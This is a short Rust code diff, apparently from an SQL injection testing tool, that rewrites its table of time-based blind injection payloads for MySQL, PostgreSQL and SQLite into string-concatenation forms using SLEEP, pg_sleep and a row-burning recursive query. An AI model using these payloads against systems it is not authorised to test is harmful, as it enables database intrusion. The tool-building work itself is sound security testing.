@@ -23,14 +23,15 @@ pub enum Unit {
     Rows(u32),
 }
 
-/// Waits in SQL, as sub-selects that are evaluated once, not once a row.
+/// Waits in SQL, put together with the value: they are needed for any comparison, whatever the value, and widen none. `||` is OR in MySQL, and what
+/// stands behind it is nought there. Tables from sub-selects are made once, not once a row.
 pub const SQL: &[Way] = &[
-    ("MySQL", "' AND (SELECT 1 FROM (SELECT SLEEP(", ")) plimsoll) AND '1' LIKE '1", Unit::Seconds),
-    ("PostgreSQL", "' AND 1=(SELECT 1 FROM pg_sleep(", ")) AND '1' LIKE '1", Unit::Seconds),
+    ("MySQL", "' || (SELECT 0 FROM (SELECT SLEEP(", ")) plimsoll) || '", Unit::Seconds),
+    ("PostgreSQL", "' || (SELECT '' FROM pg_sleep(", ")) || '", Unit::Seconds),
     (
         "SQLite",
-        "' AND 0<(WITH RECURSIVE plimsoll(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM plimsoll LIMIT ",
-        ") SELECT count(*) FROM plimsoll) AND '1' LIKE '1",
+        "' || (WITH RECURSIVE plimsoll(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM plimsoll LIMIT ",
+        ") SELECT substr(count(*),1,0) FROM plimsoll) || '",
         Unit::Rows(600_000),
     ),
 ];
